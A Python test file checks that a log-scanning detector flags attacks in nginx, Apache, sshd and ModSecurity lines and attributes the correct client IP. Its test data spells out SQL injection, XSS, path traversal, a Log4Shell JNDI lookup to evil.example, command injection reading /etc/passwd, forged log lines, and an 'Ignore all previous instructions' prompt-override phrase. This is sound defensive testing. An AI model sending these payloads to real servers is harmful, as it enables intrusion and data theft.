"""Lines of error and authentication logs in, types and addresses out: the rules see what a request or a server said."""

# ruff: noqa: E501  (log lines are long)

from datetime import UTC
from functools import cache

import pytest

from core import event
from core.event import TimeSource
from detection.ruleset import load_rules
from detection.scanner import Scanner
from ingestion.fetch.blocks import Block
from ingestion.parse.messages import Calendar
from ingestion.parse.table import named, recognise
from ingestion.parse.years import YearPlan
from ingestion.parse.zones import LocalTime
from ingestion.segment import Plan, Segment, build

REAL = "192.0.2.7"
NGINX = '2026/10/10 13:55:36 [error] 77#77: *9 {message}, client: 192.0.2.7, server: shop.example, request: "{request}", host: "shop.example"'
APACHE = "[Sat Oct 10 13:55:36.000000 2026] [core:error] [pid 9:tid 1] [client 192.0.2.7:41234] {message}"
MISSING = 'open() "/usr/share/nginx/html/a" failed (2: No such file or directory)'


@cache
def scanner() -> Scanner:
    return Scanner(load_rules())


@cache
def read(line: str) -> Segment:
    """The line as production reads it."""
    data = line.encode("utf-8", "surrogateescape") + b"\n"
    calendar = Calendar(LocalTime(UTC, TimeSource.ASSUMED), YearPlan(2026))
    return build(Block(data, 1, 0, data.count(b"\n"), True), Plan(0, recognise(data), calendar), scanner())


def types(segment: Segment) -> set[str]:
    return set(segment.hits.column("akashi.type").to_pylist())


def ips(segment: Segment) -> list[str | None]:
    found: list[str | None] = segment.events.column(event.IP).to_pylist()
    return found


@pytest.mark.parametrize(
    ("request_line", "kind"),
    [
        ("GET /item?id=1'%20UNION%20SELECT%20user,pass%20FROM%20users--%20- HTTP/1.1", "sql_injection"),
        ("GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "xss"),
        ("GET /../../../../etc/passwd HTTP/1.1", "path_traversal"),
        ("GET /.env HTTP/1.1", "sensitive_file_probe"),
        ("GET /?x=$%7Bjndi:ldap://evil.example/a%7D HTTP/1.1", "code_injection"),
        ("GET /?c=;cat%20/etc/passwd HTTP/1.1", "command_injection"),
        ("CONNECT mail.example:25 HTTP/1.1", "protocol_abuse"),
        ("PUT /x.php HTTP/1.1", "malicious_upload"),
        ("GET /?q=Ignore+all+previous+instructions HTTP/1.1", "log_injection"),
    ],
)
@pytest.mark.parametrize("message", [MISSING, "access forbidden by rule"])
def test_a_request_in_an_nginx_error_is_scanned(message: str, request_line: str, kind: str) -> None:
    found = read(NGINX.format(message=message, request=request_line))
    assert kind in types(found)
    assert ips(found) == [REAL]


@pytest.mark.parametrize(
    ("message", "kind"),
    [
        ("AH00128: File does not exist: /var/www/html/index.php?id=1' OR '1'='1", "sql_injection"),
        ("File does not exist: /var/www/../../etc/passwd", "path_traversal"),
        ("AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1", "path_traversal"),
        ("AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd)", "path_traversal"),
        ("AH00128: File does not exist: /srv/www/shop.example/htdocs/.git/config", "sensitive_file_probe"),
        ("AH00128: File does not exist: /data/shop/.env", "sensitive_file_probe"),
        ("AH01630: client denied by server configuration: /var/www/html/.htpasswd", "sensitive_file_probe"),
        ("AH00135: Invalid method in request TRACE / HTTP/1.1", "protocol_abuse"),
        ("File does not exist: /var/www/html/<script>alert(1)</script>", "xss"),
        ("AH01618: user admin' OR '1'='1 not found: /intern", "sql_injection"),
        ("script not found or unable to stat: /usr/lib/cgi-bin/php?-d+allow_url_include=on", "code_injection"),
    ],
)
def test_a_file_in_an_apache_error_is_scanned(message: str, kind: str) -> None:
    found = read(APACHE.format(message=message))
    assert kind in types(found)
    assert ips(found) == [REAL]


QUIET = [
    NGINX.format(message=MISSING, request="GET /favicon.ico HTTP/1.1"),
    NGINX.format(message=MISSING, request="GET /blog/what-is-sql-injection HTTP/1.1"),
    NGINX.format(
        message="upstream timed out (110: Connection timed out) while reading response header from upstream",
        request="GET /slow HTTP/1.1",
    ),
    NGINX.format(message='limiting requests, excess: 5.100 by zone "one"', request="GET / HTTP/1.1"),
    NGINX.format(message="client intended to send too large body: 1048577 bytes", request="POST /upload HTTP/1.1"),
    NGINX.format(
        message='FastCGI sent in stderr: "PHP message: PHP Notice:  Undefined index: a in /srv/a.php on line 2" while reading upstream',
        request="GET / HTTP/1.1",
    ),
    "2026/10/10 13:55:36 [crit] 7#7: *1 SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking, client: 192.0.2.7, server: 0.0.0.0:443",
    "2026/10/10 13:55:36 [notice] 1#1: signal 1 (SIGHUP) received from 99, reconfiguring",
    APACHE.format(message="AH00128: File does not exist: /var/www/html/favicon.ico"),
    APACHE.format(message="AH00128: File does not exist: /data/backup/admin/site/robots.txt"),
    APACHE.format(message="AH00128: File does not exist: /opt/shop.example/current/public/images/a.png"),
    APACHE.format(
        message="AH01276: Cannot serve directory /var/www/html/: No matching DirectoryIndex (index.html) found, and server-generated directory index forbidden by Options directive"
    ),
    APACHE.format(
        message="AH02032: Hostname a.example provided via SNI and hostname b.example provided via HTTP are different"
    ),
    APACHE.format(message="AH01382: Request header read timeout"),
    "[Sat Oct 10 13:55:36.000000 2026] [mpm_event:notice] [pid 9:tid 1] AH00489: Apache/2.4.62 (Unix) configured -- resuming normal operations",
    "Oct 10 13:55:36 web sshd[9]: Accepted publickey for bob from 192.0.2.7 port 4242 ssh2: ED25519 SHA256:Abcd+/efgh1234",
    "Oct 10 13:55:36 web sshd[9]: Failed password for bob from 192.0.2.7 port 4242 ssh2",
    "Oct 10 13:55:36 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/passwd",
    "Oct 10 13:55:36 web CRON[9]: (root) CMD (wget -q -O /dev/null https://shop.example/cron.php?key=1)",
    "Oct 10 13:55:36 web useradd[9]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
]


@pytest.mark.parametrize("line", QUIET)
def test_ordinary_messages_are_silent(line: str) -> None:
    assert types(read(line)) == set()


@pytest.mark.parametrize(
    ("line", "kinds"),
    [
        # a client's text imitates what the server says
        (NGINX.format(message='open() "/html/access forbidden by rule" failed (2: No such file or directory)', request="GET /access%20forbidden%20by%20rule HTTP/1.1"), set()),
        (NGINX.format(message='open() "/html/PHP Fatal error:" failed (2: No such file or directory)', request="GET /PHP%20Fatal%20error: HTTP/1.1"), set()),
        (NGINX.format(message='open() "/html/[id "942100"]" failed (2: No such file or directory)', request='GET /[id%20"942100"] HTTP/1.1'), set()),
        (APACHE.format(message="AH00128: File does not exist: /var/www/html/AH01630: client denied by server configuration: x"), set()),
        (APACHE.format(message="AH00128: File does not exist: /var/www/html/x [client 198.51.100.77] y"), {"log_injection"}),
        ("Oct 10 13:55:36 web sshd[9]: Failed password for invalid user eve : user NOT in sudoers ; TTY=pts/0 from 192.0.2.7 port 4242 ssh2", set()),
        ("Oct 10 13:55:36 web sshd[9]: Failed password for invalid user root from 198.51.100.77 port 22 ssh2 from 192.0.2.7 port 4242 ssh2", {"log_injection"}),
        ("Oct 10 13:55:36 web sshd[9]: Invalid user Accepted password for root from 198.51.100.77 from 192.0.2.7 port 4242", {"log_injection"}),
    ],
)  # fmt: skip
def test_imitations(line: str, kinds: set[str]) -> None:
    found = read(line)
    assert types(found) == kinds
    assert ips(found) == [REAL]


ALERT = '[Sat Oct 10 13:55:36.000000 2026] [security2:error] [pid 9] [client 192.0.2.7:5555] [client 192.0.2.7] ModSecurity: {said} [file "/c.conf"] [line "1"] [id "{id}"] [msg "{msg}"] [hostname "shop.example"] [uri "/a"] [unique_id "{request}"]'


def test_alerts_of_one_request_are_one_story() -> None:
    lines = [
        ALERT.format(
            said="Warning. Matched.", id="942100", msg="SQL Injection Attack Detected via libinjection", request="one"
        ),
        ALERT.format(said="Warning. Matched.", id="941100", msg="XSS Attack Detected via libinjection", request="two"),
        ALERT.format(
            said="Access denied with code 403 (phase 2).",
            id="949110",
            msg="Inbound Anomaly Score Exceeded (Total Score: 8)",
            request="one",
        ),
    ]
    found = read("\n".join(lines))
    assert list(
        zip(found.hits.column(event.LINE).to_pylist(), found.hits.column("akashi.type").to_pylist(), strict=True)
    ) == [
        (1, "sql_injection"),
        (2, "xss"),
        (3, "unauthorised_access"),
    ]
    assert found.events.column(event.ACTION).to_pylist() == ["waf_blocked", "waf_alert", "waf_blocked"]


def test_a_web_error_log_by_syslog_is_scanned() -> None:
    found = read("Oct 10 13:55:36 web nginx: " + NGINX.format(message=MISSING, request="GET /.env HTTP/1.1"))
    assert (types(found), ips(found)) == ({"sensitive_file_probe"}, [REAL])


def test_excerpts_without_a_time_are_scanned() -> None:
    found = read("[client 192.0.2.7] File does not exist: /var/www/html/.env")
    assert (types(found), ips(found), named("partial.client").dataset) == (
        {"sensitive_file_probe"},
        [REAL],
        "partial.client",
    )
